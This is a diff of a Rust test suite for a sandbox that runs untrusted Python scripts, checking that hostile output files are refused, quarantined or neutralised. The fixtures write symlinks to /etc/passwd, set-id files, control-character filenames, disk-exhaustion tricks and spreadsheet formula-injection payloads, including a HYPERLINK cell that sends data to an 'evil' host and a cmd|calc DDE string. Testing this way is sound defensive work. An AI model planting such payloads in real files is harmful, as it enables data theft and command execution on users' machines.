@@ -7,7 +7,7 @@ use std::os::unix::fs::{MetadataExt, PermissionsExt};
 use std::path::{Path, PathBuf};
 use std::time::Duration;
 
-use jail::result::{Artifact, Change, FlagKind, RejectReason, RunResult, Summary};
+use jail::result::{Artifact, Change, Disposition, FlagKind, RejectReason, RunResult, Summary};
 use jail_tests::*;
 
 /// How the script's output dir reaches the host.
@@ -205,18 +205,53 @@ open("ok.txt", "w").write("fine\n")
 }
 
 #[test]
-fn special_files_links_set_id_bits_and_bad_names_are_refused_from_a_bound_output_dir() {
+fn every_refused_kind_stays_out_of_a_bound_output_folder() {
     special_files_case(OutputMode::Bound);
 }
 
 #[test]
-fn the_mirror_keeps_sockets_set_id_bits_and_hard_links_in_and_the_rest_is_refused() {
+fn every_refused_kind_stays_in_the_jail_and_the_host_folder_gets_only_what_passed() {
     special_files_case(OutputMode::Mirrored);
+}
+
+/// Every entry under `dir`, as `/`-joined relative paths (raw names
+/// escaped), never following a link.
+fn host_entries(dir: &Path) -> Vec<String> {
+    fn walk(base: &Path, dir: &Path, out: &mut Vec<String>) {
+        for e in std::fs::read_dir(dir).unwrap().flatten() {
+            let p = e.path();
+            let rel = jail::artifacts::escape_name(p.strip_prefix(base).unwrap().as_os_str().as_encoded_bytes());
+            let m = std::fs::symlink_metadata(&p).unwrap();
+            if m.is_dir() {
+                out.push(format!("{rel}/"));
+                walk(base, &p, out);
+            } else {
+                out.push(rel);
+            }
+        }
+    }
+    let mut out = Vec::new();
+    walk(dir, dir, &mut out);
+    out.sort();
+    out
+}
+
+/// Host folders beside `output` holding what a bound run quarantined.
+fn quarantines(output: &Path) -> Vec<PathBuf> {
+    let name = output.file_name().unwrap().to_string_lossy().to_string();
+    let mut q: Vec<PathBuf> = std::fs::read_dir(output.parent().unwrap())
+        .unwrap()
+        .flatten()
+        .filter(|e| e.file_name().to_string_lossy().starts_with(&format!("{name}.jail-rejected-")))
+        .map(|e| e.path())
+        .collect();
+    q.sort();
+    q
 }
 
 fn special_files_case(mode: OutputMode) {
     let mut sb = Sandbox::new();
-    with_policy(&mut sb, mode, serde_json::json!({}));
+    with_policy(&mut sb, mode, serde_json::json!({"max_file_bytes": 4096}));
     if is_root() {
         // A jail cannot make a device node (see `mknod` below); one left in
         // the output dir by the host must be refused all the same.
@@ -227,39 +262,65 @@ fn special_files_case(mode: OutputMode) {
             nix::sys::stat::makedev(1, 3),
         )
         .unwrap();
+    } else {
+        covered_elsewhere("the device-node sub-case needs root to mknod; the root half of `make test` runs it");
     }
     let (r, _) = run_ok(
         &sb,
-        r#"
+        &format!(
+            r#"
 import json, os, socket, stat
 os.mkfifo("pipe.csv")
 s = socket.socket(socket.AF_UNIX); s.bind("sock.csv")
 for name in ["..hidden.txt", "-rf.txt", "esc\x1b[2J.txt", "rtl\u202egnp.txt", "a\\b.txt", "n" * 200 + ".txt",
-             "tool.exe", "noext", "suid.txt", "a.txt", "ok.csv"]:
+             "new\nline.txt", "zw\u200bsp.txt", "tool.exe", "noext", "suid.txt", "sgid.txt", "a.txt", "ok.csv"]:
     open(name, "w").write("a,b\n1,2\n")
 os.close(os.open(b"\xff\xfe.txt", os.O_CREAT | os.O_WRONLY))
+open("big.txt", "w").write("x" * 5000)
 os.chmod("suid.txt", 0o4755)
+os.chmod("sgid.txt", 0o2755)
 os.link("a.txt", "b.txt")
+os.symlink("ok.csv", "inside.csv")
+os.symlink("/etc/passwd", "outside.txt")
+os.symlink("/root", "rootdir")
+os.makedirs("sub")
+os.symlink("../ok.csv", "sub/up.csv")
+open("sub/fine.txt", "w").write("fine\n")
+{FORMULA}
 try:
     os.mknod("dev.csv", 0o666 | stat.S_IFCHR, os.makedev(1, 3))
     made = "made"
 except OSError as e:
     made = type(e).__name__
-print(json.dumps({"mknod": made}))
+print(json.dumps({{"mknod": made}}))
 "#,
+            FORMULA = FORMULA_CSV
+        ),
     );
     assert!(r.stdout.text.contains("PermissionError"), "{}", r.stdout.text);
     let rej = rejected(&r);
     let expect = [
         ("pipe.csv", RejectReason::Fifo),
+        ("sock.csv", RejectReason::Socket),
         ("..hidden.txt", RejectReason::BadName),
         ("-rf.txt", RejectReason::BadName),
         ("esc\\x1b[2J.txt", RejectReason::BadName),
         ("rtl\\u{202e}gnp.txt", RejectReason::BadName),
+        ("new\\nline.txt", RejectReason::BadName),
+        ("zw\\u{200b}sp.txt", RejectReason::BadName),
         ("a\\\\b.txt", RejectReason::BadName),
         ("\\xff\\xfe.txt", RejectReason::BadName),
         ("tool.exe", RejectReason::ExtensionNotAllowed),
         ("noext", RejectReason::ExtensionNotAllowed),
+        ("big.txt", RejectReason::TooLarge),
+        ("suid.txt", RejectReason::SetId),
+        ("sgid.txt", RejectReason::SetId),
+        ("a.txt", RejectReason::HardLink),
+        ("b.txt", RejectReason::HardLink),
+        ("inside.csv", RejectReason::Symlink),
+        ("outside.txt", RejectReason::Symlink),
+        ("rootdir", RejectReason::Symlink),
+        ("sub/up.csv", RejectReason::Symlink),
     ];
     for (path, reason) in expect {
         assert_eq!(rej.get(path), Some(&reason), "{mode:?} {path}: {:?}", r.rejected_artifacts);
@@ -272,22 +333,40 @@ print(json.dumps({"mknod": made}))
         assert!(!x.path.chars().any(|c| c.is_control() || c == '\u{202e}'), "unescaped path {:?}", x.path);
     }
     let paths: Vec<&str> = r.artifacts.iter().map(|a| a.path.as_str()).collect();
+    assert_eq!(paths, ["clean.csv", "ok.csv", "report.csv", "sub/fine.txt", "t.tsv"]);
+    // The host folder holds what passed and nothing else (and the device
+    // the host itself left there, untouched).
+    let mut expect_host: Vec<String> = paths.iter().map(|p| p.to_string()).collect();
+    expect_host.push("sub/".into());
+    if is_root() {
+        expect_host.push("null.csv".into());
+        assert_eq!(r.rejected_artifacts.iter().find(|x| x.path == "null.csv").unwrap().disposition, Disposition::LeftAsBefore);
+    }
+    expect_host.sort();
+    assert_eq!(host_entries(&sb.output), expect_host, "{mode:?}: {:?}", r.rejected_artifacts);
+    // The formula CSV arrived neutralised.
+    let report = std::fs::read_to_string(sb.output.join("report.csv")).unwrap();
+    assert_eq!(report, NEUTRALISED_REPORT);
     match mode {
-        OutputMode::Bound => {
-            assert_eq!(rej.get("sock.csv"), Some(&RejectReason::Socket));
-            assert_eq!(rej.get("suid.txt"), Some(&RejectReason::SetId));
-            assert_eq!(rej.get("a.txt"), Some(&RejectReason::HardLink));
-            assert_eq!(rej.get("b.txt"), Some(&RejectReason::HardLink));
-            assert_eq!(paths, ["ok.csv"]);
-        }
         OutputMode::Mirrored => {
-            // The mirror never brings a socket out, drops set-id bits and
-            // writes each hard-linked name as its own file: by the time the
-            // walk looks, there is nothing of those left to refuse.
-            assert!(!sb.output.join("sock.csv").exists());
-            assert_eq!(std::fs::metadata(sb.output.join("suid.txt")).unwrap().mode() & 0o6000, 0);
-            assert_eq!(std::fs::metadata(sb.output.join("a.txt")).unwrap().nlink(), 1);
-            assert_eq!(paths, ["a.txt", "b.txt", "ok.csv", "suid.txt"]);
+            assert_eq!(quarantines(&sb.output), Vec::<PathBuf>::new());
+            for x in r.rejected_artifacts.iter().filter(|x| x.path != "null.csv") {
+                assert_eq!(x.disposition, Disposition::NotDelivered, "{x:?}");
+            }
+        }
+        OutputMode::Bound => {
+            // Nothing was lost: each refused entry the script made is in the
+            // quarantine folder the result names.
+            let q = PathBuf::from(r.quarantine_dir.clone().expect("a quarantine folder"));
+            assert_eq!(quarantines(&sb.output), vec![q.clone()]);
+            for x in r.rejected_artifacts.iter().filter(|x| x.path != "null.csv") {
+                assert_eq!(x.disposition, Disposition::Quarantined, "{x:?}");
+                let moved = PathBuf::from(x.moved_to.clone().unwrap());
+                assert!(moved.starts_with(&q) && std::fs::symlink_metadata(&moved).is_ok(), "{x:?}");
+            }
+            let big = r.rejected_artifacts.iter().find(|x| x.path == "big.txt").unwrap();
+            assert_eq!(std::fs::read(big.moved_to.as_ref().unwrap()).unwrap().len(), 5000);
+            let _ = std::process::Command::new("rm").arg("-rf").arg(&q).status();
         }
     }
 }
@@ -324,8 +403,13 @@ for i in range(4096):
     let ms = stage(&r, "artifacts") - stage(&r, "artifacts_start");
     assert!(ms < 10_000.0, "collection took {ms} ms");
     assert!(out.stdout.len() < 64 << 10, "result is {} bytes", out.stdout.len());
+    // Bound: what was refused left the folder for the quarantine beside it.
+    let q = r.quarantine_dir.clone().expect("a quarantine folder");
+    assert_eq!(host_entries(&sb.output), ["deep/", "deep/d/", "deep/d/d/", "deep/d/d/d/", "deep/d/d/d/d/", "deep/d/d/d/d/d/",
+        "deep/d/d/d/d/d/d/", "deep/d/d/d/d/d/d/d/", "deep/d/d/d/d/d/d/d/d/", "deep/d/d/d/d/d/d/d/d/d/", "deep/d/d/d/d/d/d/d/d/d/d/",
+        "deep/d/d/d/d/d/d/d/d/d/d/d/", "deep/d/d/d/d/d/d/d/d/d/d/d/d/", "deep/d/d/d/d/d/d/d/d/d/d/d/d/d/", "deep/d/d/d/d/d/d/d/d/d/d/d/d/d/d/"]);
     // GNU rm walks a 4096-deep tree without running out of descriptors.
-    let _ = std::process::Command::new("rm").arg("-rf").arg(sb.output.join("deep")).status();
+    let _ = std::process::Command::new("rm").arg("-rf").arg(sb.output.join("deep")).arg(&q).status();
 }
 
 #[test]
@@ -356,6 +440,10 @@ open("t1.txt", "w").write("z" * 800)
     assert_eq!(artifact(&r, "m0/018.txt").bytes, 1);
 }
 
+/// report.csv of FORMULA_CSV as the host receives it by default.
+const NEUTRALISED_REPORT: &str =
+    "name,note,delta\r\nada,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",-3.5\r\nbob,'@SUM(1+1)*cmd|' /C calc'!A0,'-2+3\r\neve,+1,ok\r\n";
+
 const FORMULA_CSV: &str = r#"
 import csv, os
 with open("report.csv", "w", newline="") as f:
@@ -369,60 +457,77 @@ open("clean.csv", "w").write("a,b\n-1,2\n")
 "#;
 
 #[test]
-fn formula_injected_csv_is_flagged_and_left_alone_by_default() {
-    let sb = Sandbox::new();
+fn formula_injected_csv_reaches_the_host_neutralised_by_default() {
+    for mode in [OutputMode::Mirrored, OutputMode::Bound] {
+        let mut sb = Sandbox::new();
+        with_policy(&mut sb, mode, serde_json::json!({}));
+        let (r, _) = run_ok(&sb, FORMULA_CSV);
+        let report = artifact(&r, "report.csv");
+        // The flag describes what the script wrote...
+        assert_eq!(flag_count(report, FlagKind::FormulaInjection), 3, "{:?}", report.flags);
+        let flag = report.flags.iter().find(|f| f.kind == FlagKind::FormulaInjection).unwrap();
+        assert_eq!(flag.locations, ["row 2, column 2", "row 3, column 2", "row 3, column 3"]);
+        assert!(!flag.detail.contains("HYPERLINK"), "flags never quote the cell");
+        // ...and the host received the neutralised file, which `bytes` and
+        // `sha256` describe; `neutralised` says what changed.
+        let text = std::fs::read_to_string(sb.output.join("report.csv")).unwrap();
+        assert_eq!(text, NEUTRALISED_REPORT, "{mode:?}");
+        assert_eq!(report.sha256.as_deref(), Some(jail::digest::sha256_hex(text.as_bytes()).as_str()));
+        assert_eq!(report.bytes, text.len() as u64);
+        let n = report.neutralised.as_ref().expect("neutralised");
+        assert_eq!(n.cells, 3);
+        assert_eq!(n.original_bytes + 3, text.len() as u64);
+        assert_ne!(n.original_sha256, report.sha256.clone().unwrap());
+        assert_eq!(std::fs::read_to_string(sb.output.join("t.tsv")).unwrap(), "a\tb\n1\t'=1+1\n");
+        let clean = artifact(&r, "clean.csv");
+        assert!(clean.flags.is_empty() && clean.neutralised.is_none());
+        assert_eq!(std::fs::read_to_string(sb.output.join("clean.csv")).unwrap(), "a,b\n-1,2\n");
+        assert_eq!(r.quarantine_dir, None, "{mode:?}: nothing was refused");
+    }
+}
+
+#[test]
+fn formula_cells_flag_delivers_the_file_as_the_script_wrote_it() {
+    let mut sb = Sandbox::new();
+    with_rules(&mut sb, serde_json::json!({"formula_cells": "flag"}));
     let (r, _) = run_ok(&sb, FORMULA_CSV);
     let report = artifact(&r, "report.csv");
-    assert_eq!(flag_count(report, FlagKind::FormulaInjection), 3, "{:?}", report.flags);
-    let flag = report.flags.iter().find(|f| f.kind == FlagKind::FormulaInjection).unwrap();
-    assert_eq!(flag.locations, ["row 2, column 2", "row 3, column 2", "row 3, column 3"]);
-    assert!(!flag.detail.contains("HYPERLINK"), "flags never quote the cell");
-    assert_eq!(flag_count(artifact(&r, "t.tsv"), FlagKind::FormulaInjection), 1);
-    assert!(artifact(&r, "clean.csv").flags.is_empty());
-    assert_eq!(report.sanitized_copy, None);
-    assert!(!sb.output.join("report.sanitized.csv").exists());
+    assert_eq!(flag_count(report, FlagKind::FormulaInjection), 3);
+    assert_eq!(report.neutralised, None);
+    let text = std::fs::read_to_string(sb.output.join("report.csv")).unwrap();
+    assert!(text.contains(",\"=HYPERLINK("), "{text}");
+    assert_eq!(report.sha256.as_deref(), Some(jail::digest::sha256_hex(text.as_bytes()).as_str()));
 }
 
-#[test]
-fn formula_injected_csv_gets_a_sanitised_copy_when_the_policy_says_so() {
-    let mut sb = Sandbox::new();
-    with_rules(&mut sb, serde_json::json!({"formula_cells": "sanitize"}));
-    // The script also plants a link where the copy will go: it must be
-    // replaced, never written through.
-    let (r, _) = run_ok(&sb, &format!("{FORMULA_CSV}\nos.symlink('/etc/passwd', 't.sanitized.tsv')\n"));
-    let report = artifact(&r, "report.csv");
-    assert_eq!(report.sanitized_copy.as_deref(), Some("report.sanitized.csv"));
-    let copy = artifact(&r, "report.sanitized.csv");
-    assert_eq!(copy.sanitized_from.as_deref(), Some("report.csv"));
-    assert_eq!(copy.change, Change::Created);
-    assert!(copy.flags.is_empty(), "{:?}", copy.flags);
-    let text = std::fs::read_to_string(sb.output.join("report.sanitized.csv")).unwrap();
-    assert_eq!(
-        text,
-        "name,note,delta\r\nada,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",-3.5\r\nbob,'@SUM(1+1)*cmd|' /C calc'!A0,'-2+3\r\neve,+1,ok\r\n"
-    );
-    assert_eq!(copy.sha256.as_deref(), Some(jail::digest::sha256_hex(text.as_bytes()).as_str()));
-    let tsv = sb.output.join("t.sanitized.tsv");
-    assert!(std::fs::symlink_metadata(&tsv).unwrap().file_type().is_file());
-    assert_eq!(std::fs::read_to_string(&tsv).unwrap(), "a\tb\n1\t'=1+1\n");
-    assert_eq!(artifact(&r, "clean.csv").sanitized_copy, None);
-    assert!(!r.rejected_artifacts.iter().any(|x| x.path == "t.sanitized.tsv"), "{:?}", r.rejected_artifacts);
-}
-
-#[test]
-fn xlsx_formulas_and_formula_strings_are_flagged() {
-    let sb = Sandbox::new();
-    let (r, _) = run_ok(
-        &sb,
-        &format!(
-            r#"{PY_FILES}
+const XLSX_WITH_FORMULAS: &str = r#"
 data = ('<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
         '<row r="2"><c r="A2"><f>SUM(B1:B9)</f><v>3</v></c><c r="B2" t="inlineStr"><is><t>@cmd</t></is></c>'
         '<c r="C2" t="s"><v>2</v></c><c r="D2" t="s"><v>3</v></c></row>')
 write_xlsx("book.xlsx", [("Data", data, "A1:D2")], ["name", '=WEBSERVICE("http://x")', "-2+3", "-4.5"])
-"#
-        ),
-    );
+write_xlsx("plain.xlsx", [("Data", '<row r="1"><c r="A1" t="s"><v>0</v></c></row>', "A1:A1")], ["name"])
+"#;
+
+#[test]
+fn an_xlsx_with_formulas_is_refused_by_default_and_never_reaches_the_host() {
+    for mode in [OutputMode::Mirrored, OutputMode::Bound] {
+        let mut sb = Sandbox::new();
+        with_policy(&mut sb, mode, serde_json::json!({}));
+        let (r, _) = run_ok(&sb, &format!("{PY_FILES}{XLSX_WITH_FORMULAS}"));
+        assert_eq!(rejected(&r).get("book.xlsx"), Some(&RejectReason::FormulaCells), "{:?}", r.rejected_artifacts);
+        assert!(!sb.output.join("book.xlsx").exists(), "{mode:?}");
+        assert!(artifact(&r, "plain.xlsx").flags.is_empty());
+        assert!(sb.output.join("plain.xlsx").exists());
+        if let Some(q) = &r.quarantine_dir {
+            let _ = std::fs::remove_dir_all(q);
+        }
+    }
+}
+
+#[test]
+fn xlsx_formulas_and_formula_strings_are_flagged() {
+    let mut sb = Sandbox::new();
+    with_rules(&mut sb, serde_json::json!({"formula_cells": "flag"}));
+    let (r, _) = run_ok(&sb, &format!("{PY_FILES}{XLSX_WITH_FORMULAS}"));
     let book = artifact(&r, "book.xlsx");
     let flag = book.flags.iter().find(|f| f.kind == FlagKind::FormulaInjection).unwrap_or_else(|| panic!("{:?}", book.flags));
     assert_eq!(flag.count, 4, "{flag:?}");
@@ -542,17 +647,29 @@ fn created_modified_unchanged_and_deleted_are_told_apart_on_a_prefilled_output()
 fn changes_case(mode: OutputMode) {
     let mut sb = Sandbox::new();
     with_policy(&mut sb, mode, serde_json::json!({}));
+    // Bound, the script changes the host's files themselves, and os.utime
+    // needs their owner; concurrent root runs get different uids of the
+    // range (hostuid.rs), so this run gets one no other run takes.
+    let pinned = jail::hostuid::DEFAULT_FIRST + jail::hostuid::DEFAULT_COUNT;
+    if mode == OutputMode::Bound && is_root() {
+        let path = sb.dir.path().join("policy.json");
+        let mut policy: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
+        policy["identity"]["root_host_uids"] = serde_json::json!({"first": pinned, "count": 1});
+        std::fs::write(&path, policy.to_string()).unwrap();
+    }
+    let give = |p: &std::path::Path| {
+        give_to_sandbox(p);
+        if mode == OutputMode::Bound && is_root() {
+            std::os::unix::fs::chown(p, Some(pinned), None).unwrap();
+        }
+    };
     std::fs::create_dir(sb.output.join("sub")).unwrap();
     for name in ["keep.txt", "edit.txt", "forged.txt", "gone.txt", "sub/old.txt"] {
         let p = sb.output.join(name);
         std::fs::write(&p, "v1\n").unwrap();
-        if is_root() {
-            std::os::unix::fs::chown(&p, Some(sandbox_host_uid()), Some(sandbox_host_uid())).unwrap();
-        }
+        give(&p);
     }
-    if is_root() {
-        std::os::unix::fs::chown(sb.output.join("sub"), Some(sandbox_host_uid()), Some(sandbox_host_uid())).unwrap();
-    }
+    give(&sb.output.join("sub"));
     let (r, _) = run_ok(
         &sb,
         r#"
@@ -635,19 +752,27 @@ time.sleep(0.05)
     // Nothing is left running to change the dir after the result.
     assert!(host_processes_with(&marker).is_empty());
     let beat = std::fs::read_to_string(sb.output.join("beat.txt")).unwrap();
-    let swap = std::fs::symlink_metadata(sb.output.join("swap.txt")).unwrap();
+    let swap = std::fs::symlink_metadata(sb.output.join("swap.txt")).ok().map(|m| (m.ino(), m.ctime_nsec()));
     std::thread::sleep(Duration::from_millis(100));
     assert_eq!(std::fs::read_to_string(sb.output.join("beat.txt")).unwrap(), beat);
-    let swap_now = std::fs::symlink_metadata(sb.output.join("swap.txt")).unwrap();
-    assert_eq!((swap.ino(), swap.ctime_nsec()), (swap_now.ino(), swap_now.ctime_nsec()));
-    // And what the result says about swap.txt is what is there now.
+    let swap_now = std::fs::symlink_metadata(sb.output.join("swap.txt")).ok();
+    assert_eq!(swap, swap_now.as_ref().map(|m| (m.ino(), m.ctime_nsec())));
+    // What the result says about swap.txt is what is there now: an accepted
+    // file, or a link that was moved out of the folder.
     match r.artifacts.iter().find(|a| a.path == "swap.txt") {
         Some(a) => {
             let bytes = std::fs::read(sb.output.join("swap.txt")).unwrap();
-            assert!(!swap_now.file_type().is_symlink());
+            assert!(!swap_now.unwrap().file_type().is_symlink());
             assert_eq!(a.sha256.as_deref(), Some(jail::digest::sha256_hex(&bytes).as_str()));
         }
-        None => assert!(swap_now.file_type().is_symlink()),
+        None => {
+            assert!(swap_now.is_none(), "a refused link stayed in the bound folder");
+            let x = r.rejected_artifacts.iter().find(|x| x.path == "swap.txt").unwrap();
+            assert!(std::fs::symlink_metadata(x.moved_to.as_ref().unwrap()).unwrap().file_type().is_symlink());
+        }
+    }
+    if let Some(q) = &r.quarantine_dir {
+        let _ = std::fs::remove_dir_all(q);
     }
 }
 
@@ -696,4 +821,128 @@ fn a_fresh_output_dir_is_made_reported_and_collected_when_none_is_given() {
     assert_eq!(std::fs::read_to_string(dir.join("hello.txt")).unwrap(), "hi\n");
     assert!(dir.starts_with(std::env::temp_dir()) || Path::new(&dir).exists());
     std::fs::remove_dir_all(&dir).unwrap();
+}
+
+/// What `du` counts for a folder: the blocks every entry beneath it holds.
+fn disk_usage(dir: &Path) -> u64 {
+    let mut total = std::fs::symlink_metadata(dir).unwrap().blocks() * 512;
+    for e in std::fs::read_dir(dir).unwrap().flatten() {
+        let m = std::fs::symlink_metadata(e.path()).unwrap();
+        total += if m.is_dir() { disk_usage(&e.path()) } else { m.blocks() * 512 };
+    }
+    total
+}
+
+#[test]
+fn sparse_files_and_hard_links_cost_the_host_no_more_than_output_size_and_the_run_ends_on_time() {
+    let mut sb = Sandbox::new();
+    with_policy(&mut sb, OutputMode::Mirrored, serde_json::json!({}));
+    let cap: u64 = 32 << 20;
+    let policy_path = sb.dir.path().join("policy.json");
+    let mut policy: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&policy_path).unwrap()).unwrap();
+    policy["filesystem"]["output_size"] = "32M".into();
+    std::fs::write(&policy_path, serde_json::to_string(&policy).unwrap()).unwrap();
+    sb.extra_args.extend(["--timeout".into(), "4".into()]);
+    let start = std::time::Instant::now();
+    // Three 90 MiB files that hold a few bytes each (0 bytes of the cap),
+    // and one 8 MiB file with 100 more names: 270 MiB and 800 MiB if copied
+    // naively, against a 32 MiB cap. Then most of the wall time is used up,
+    // so a copy that ran past the deadline would show.
+    let (r, _) = run_ok(
+        &sb,
+        r#"
+import os, time
+t0 = time.monotonic()
+for i in range(3):
+    with open(f"sparse{i}.parquet", "wb") as f:
+        f.truncate(90 << 20)
+        f.seek(45 << 20)
+        f.write(b"a few bytes")
+with open("dense.parquet", "wb") as f:
+    f.write(b"d" * (8 << 20))
+for i in range(100):
+    os.link("dense.parquet", f"link{i:03}.parquet")
+time.sleep(max(0.0, 3.0 - (time.monotonic() - t0)))
+"#,
+    );
+    let took = start.elapsed();
+    let du = disk_usage(&sb.output);
+    assert!(du <= cap, "the host folder holds {du} bytes on disk, over the {cap}-byte output_size");
+    let s = r.output_sync.clone().unwrap();
+    assert!(s.bytes_written <= cap, "{s:?}");
+    for i in 0..3 {
+        let m = std::fs::metadata(sb.output.join(format!("sparse{i}.parquet"))).unwrap();
+        assert_eq!(m.len(), 90 << 20, "a sparse file arrives whole, holes and all");
+        assert_eq!(artifact(&r, &format!("sparse{i}.parquet")).bytes, 90 << 20);
+    }
+    let rej = rejected(&r);
+    assert_eq!(rej.get("dense.parquet"), Some(&RejectReason::HardLink));
+    assert_eq!(rej.get("link042.parquet"), Some(&RejectReason::HardLink));
+    assert!(!sb.output.join("dense.parquet").exists() && !sb.output.join("link000.parquet").exists());
+    // On time: the wall limit, the copy's grace after the verdict, and what
+    // a debug build needs to start and to judge 270 MiB of holes.
+    let copy = stage(&r, "output_copy_out") - stage(&r, "artifacts");
+    assert!(copy < 1500.0, "the copy took {copy} ms");
+    assert!(took < Duration::from_secs(9), "the run took {took:?} for a 4 s limit");
+}
+
+#[test]
+fn a_jail_killed_mid_copy_leaves_no_partial_file_and_stale_ones_are_swept() {
+    let sb = Sandbox::new();
+    // A stale partial copy of a jail that died long ago (a pid above any
+    // pid_max): the next run sweeps it.
+    let stale = sb.output.join(".jail-partial-4194305-0");
+    std::fs::write(&stale, "half a file").unwrap();
+    if is_root() {
+        std::os::unix::fs::chown(&stale, Some(sandbox_host_uid()), Some(sandbox_host_uid())).unwrap();
+    }
+    let script = sb.script(
+        "for n in ('big', 'bigger'):\n    with open(n + '.parquet', 'wb') as f:\n        for _ in range(95):\n            f.write(b'b' * (1 << 20))\nprint('written', flush=True)\n",
+    );
+    let mut child = std::process::Command::new(jail_bin())
+        .arg("run")
+        .arg("--rootfs")
+        .arg(&sb.rootfs)
+        .arg("--output")
+        .arg(&sb.output)
+        .arg(script)
+        .stdin(std::process::Stdio::null())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let mut line = String::new();
+    std::io::BufRead::read_line(&mut std::io::BufReader::new(child.stdout.take().unwrap()), &mut line).unwrap();
+    assert_eq!(line, "written\n");
+    // Kill jail the moment it holds a file open in the host folder: in the
+    // middle of writing big.parquet there.
+    let fds = PathBuf::from(format!("/proc/{}/fd", child.id()));
+    let deadline = std::time::Instant::now() + Duration::from_secs(30);
+    let mut caught = None;
+    while caught.is_none() && std::time::Instant::now() < deadline {
+        for e in std::fs::read_dir(&fds).into_iter().flatten().flatten() {
+            if let Ok(target) = std::fs::read_link(e.path()) {
+                if target.starts_with(&sb.output) && target != sb.output {
+                    caught = Some(target);
+                }
+            }
+        }
+        if child.try_wait().unwrap().is_some() {
+            break;
+        }
+    }
+    let _ = child.kill();
+    let _ = child.wait();
+    let target = caught.expect("jail never had a file open in the host folder");
+    let left = host_entries(&sb.output);
+    assert!(!left.iter().any(|n| n.starts_with(".jail-partial-") && !n.contains("4194305")), "a partial file was left: {left:?} (it was writing {target:?})");
+    for n in ["big.parquet", "bigger.parquet"] {
+        if let Ok(m) = std::fs::metadata(sb.output.join(n)) {
+            assert_eq!(m.len(), 95 << 20, "a half-written file has the final name");
+        }
+    }
+    // The next run sweeps the dead jail's partial (and copies nothing of it in).
+    let (r, _) = run_ok(&sb, "import os\nprint(sorted(n for n in os.listdir('.') if 'partial' in n))\n");
+    assert_eq!(r.stdout.text.trim(), "[]");
+    assert!(!stale.exists(), "the stale partial copy was not swept");
 }
